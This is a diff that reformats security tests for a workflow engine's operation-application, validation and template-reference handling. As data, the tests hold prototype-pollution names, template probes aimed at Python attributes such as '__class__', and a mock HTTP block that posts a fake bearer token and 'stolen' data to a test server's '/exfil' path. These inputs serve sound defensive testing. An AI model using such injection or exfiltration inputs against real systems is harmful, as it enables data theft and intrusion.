@@ -91,13 +91,16 @@ def test_prototype_pollution_param_names_never_become_params(catalog: Catalog) -
 
 
 def test_edit_op_cannot_add_prototype_pollution_params_either(catalog: Catalog) -> None:
-    base = apply_operations(
-        EMPTY, [add("t", "transform", template={"v": 1})], catalog
-    ).workflow
+    base = apply_operations(EMPTY, [add("t", "transform", template={"v": 1})], catalog).workflow
     r = apply_operations(
         base,
-        [{"operation_type": "edit", "block_id": "t",
-          "params": {name: {"polluted": True} for name in HOSTILE_NAMES}}],
+        [
+            {
+                "operation_type": "edit",
+                "block_id": "t",
+                "params": {name: {"polluted": True} for name in HOSTILE_NAMES},
+            }
+        ],
         catalog,
     )
     assert r.workflow.blocks[0].params == {"template": {"v": 1}}
@@ -129,9 +132,11 @@ def test_prototype_pollution_block_ids_are_plain_ids(catalog: Catalog, hostile_i
 def test_a_ref_to_a_hostile_id_that_no_block_has_is_flagged(catalog: Catalog) -> None:
     r = apply_operations(
         EMPTY,
-        [add("trg", "trigger_webhook"),
-         add("t", "transform", template="{{__proto__.result}}"),
-         connect("trg", "t")],
+        [
+            add("trg", "trigger_webhook"),
+            add("t", "transform", template="{{__proto__.result}}"),
+            connect("trg", "t"),
+        ],
         catalog,
     )
     issue = next(i for i in r.validation_errors if i.block_id == "t" and i.field == "template")
@@ -150,25 +155,37 @@ def test_ref_paths_never_reach_python_attributes(catalog: Catalog) -> None:
         return "a string, which has __class__, __len__ and upper as attributes"
 
     catalog.register(define_connector(type="text_out", params=P, outputs=None, run=text_out))
-    wf = SerializedWorkflow.model_validate({
-        "blocks": [
-            {"id": "trg", "type": "trigger_webhook"},
-            {"id": "u", "type": "text_out"},
-            {"id": "probe", "type": "transform", "params": {"template": {
-                "cls": "{{u.__class__}}",
-                "len": "{{u.__len__}}",
-                "upper": "{{u.upper}}",
-                "trig_cls": "{{trigger.__class__}}",
-                "env_cls": "{{env.__class__}}",
-                "embedded": "[{{u.__class__.__name__}}]",
-            }}},
-        ],
-        "connections": [{"source": "trg", "target": "u"}, {"source": "u", "target": "probe"}],
-    })
+    wf = SerializedWorkflow.model_validate(
+        {
+            "blocks": [
+                {"id": "trg", "type": "trigger_webhook"},
+                {"id": "u", "type": "text_out"},
+                {
+                    "id": "probe",
+                    "type": "transform",
+                    "params": {
+                        "template": {
+                            "cls": "{{u.__class__}}",
+                            "len": "{{u.__len__}}",
+                            "upper": "{{u.upper}}",
+                            "trig_cls": "{{trigger.__class__}}",
+                            "env_cls": "{{env.__class__}}",
+                            "embedded": "[{{u.__class__.__name__}}]",
+                        }
+                    },
+                },
+            ],
+            "connections": [{"source": "trg", "target": "u"}, {"source": "u", "target": "probe"}],
+        }
+    )
     run = run_in_memory(wf, {"x": 1}, catalog=catalog, env={"HOME": "/root"})
     assert run.status == "completed", run.error
     assert run.outputs["probe"]["result"] == {
-        "cls": None, "len": None, "upper": None, "trig_cls": None, "env_cls": None,
+        "cls": None,
+        "len": None,
+        "upper": None,
+        "trig_cls": None,
+        "env_cls": None,
         "embedded": "[]",
     }
 
@@ -211,8 +228,14 @@ def test_documented_secret_nested_in_a_free_form_field_reaches_the_tool(
     # Putting secrets in free-form fields is the user's responsibility.
     ops = [
         add("trg", "trigger_webhook"),
-        add("ex", "http", url=f"{api_server.url}/exfil", method="POST",
-            headers={"Authorization": "Bearer SECRET-LEAK"}, body={"stolen": "data"}),
+        add(
+            "ex",
+            "http",
+            url=f"{api_server.url}/exfil",
+            method="POST",
+            headers={"Authorization": "Bearer SECRET-LEAK"},
+            body={"stolen": "data"},
+        ),
         connect("trg", "ex"),
     ]
     r = apply_operations(EMPTY, ops, catalog)
@@ -285,8 +308,13 @@ def test_mixed_batch_with_malformed_and_bad_ref_ops_still_applies_the_rest(
     r = apply_operations(EMPTY, ops, catalog)
     codes = [s.reason_code for s in r.skipped_items]
     assert codes == [
-        "invalid_operation", "invalid_operation", "invalid_operation", "invalid_operation",
-        "invalid_edge_target", "invalid_edge_source", "block_not_found",
+        "invalid_operation",
+        "invalid_operation",
+        "invalid_operation",
+        "invalid_operation",
+        "invalid_edge_target",
+        "invalid_edge_source",
+        "block_not_found",
     ]
     assert len(r.workflow.connections) == 10
     assert {f"ok_{i}" for i in range(10)} <= {b.id for b in r.workflow.blocks}
@@ -365,19 +393,21 @@ def test_reference_to_a_sibling_block_is_flagged(catalog: Catalog) -> None:
 def test_compile_flags_downstream_and_sibling_refs_in_a_handwritten_workflow(
     catalog: Catalog,
 ) -> None:
-    wf = SerializedWorkflow.model_validate({
-        "blocks": [
-            {"id": "trg", "type": "trigger_webhook"},
-            {"id": "left", "type": "transform", "params": {"template": "{{down.result}}"}},
-            {"id": "right", "type": "transform", "params": {"template": "{{left.result}}"}},
-            {"id": "down", "type": "transform", "params": {"template": 1}},
-        ],
-        "connections": [
-            {"source": "trg", "target": "left"},
-            {"source": "trg", "target": "right"},
-            {"source": "left", "target": "down"},
-        ],
-    })
+    wf = SerializedWorkflow.model_validate(
+        {
+            "blocks": [
+                {"id": "trg", "type": "trigger_webhook"},
+                {"id": "left", "type": "transform", "params": {"template": "{{down.result}}"}},
+                {"id": "right", "type": "transform", "params": {"template": "{{left.result}}"}},
+                {"id": "down", "type": "transform", "params": {"template": 1}},
+            ],
+            "connections": [
+                {"source": "trg", "target": "left"},
+                {"source": "trg", "target": "right"},
+                {"source": "left", "target": "down"},
+            ],
+        }
+    )
     with pytest.raises(WorkflowInvalid) as exc:
         compile_workflow(wf, catalog)
     problems = exc.value.problems
@@ -389,23 +419,33 @@ def test_compile_flags_downstream_and_sibling_refs_in_a_handwritten_workflow(
 
 
 def _disabled_ref_workflow() -> SerializedWorkflow:
-    return SerializedWorkflow.model_validate({
-        "version": "1.0.0",
-        "blocks": [
-            {"id": "trg", "type": "trigger_webhook", "enabled": True, "params": {}},
-            # Disabled: never runs (so its unroutable URL is never called).
-            {"id": "fetch", "type": "http", "enabled": False, "params": {"url": "https://x"}},
-            {"id": "notifyRaw", "type": "transform", "enabled": True,
-             "params": {"template": "{{fetch.body}}"}},
-            {"id": "notifyInterp", "type": "transform", "enabled": True,
-             "params": {"template": "got [{{fetch.body}}] back"}},
-        ],
-        "connections": [
-            {"source": "trg", "target": "fetch"},
-            {"source": "fetch", "target": "notifyRaw"},
-            {"source": "fetch", "target": "notifyInterp"},
-        ],
-    })
+    return SerializedWorkflow.model_validate(
+        {
+            "version": "1.0.0",
+            "blocks": [
+                {"id": "trg", "type": "trigger_webhook", "enabled": True, "params": {}},
+                # Disabled: never runs (so its unroutable URL is never called).
+                {"id": "fetch", "type": "http", "enabled": False, "params": {"url": "https://x"}},
+                {
+                    "id": "notifyRaw",
+                    "type": "transform",
+                    "enabled": True,
+                    "params": {"template": "{{fetch.body}}"},
+                },
+                {
+                    "id": "notifyInterp",
+                    "type": "transform",
+                    "enabled": True,
+                    "params": {"template": "got [{{fetch.body}}] back"},
+                },
+            ],
+            "connections": [
+                {"source": "trg", "target": "fetch"},
+                {"source": "fetch", "target": "notifyRaw"},
+                {"source": "fetch", "target": "notifyInterp"},
+            ],
+        }
+    )
 
 
 def test_compile_flags_refs_to_a_disabled_block(catalog: Catalog) -> None:
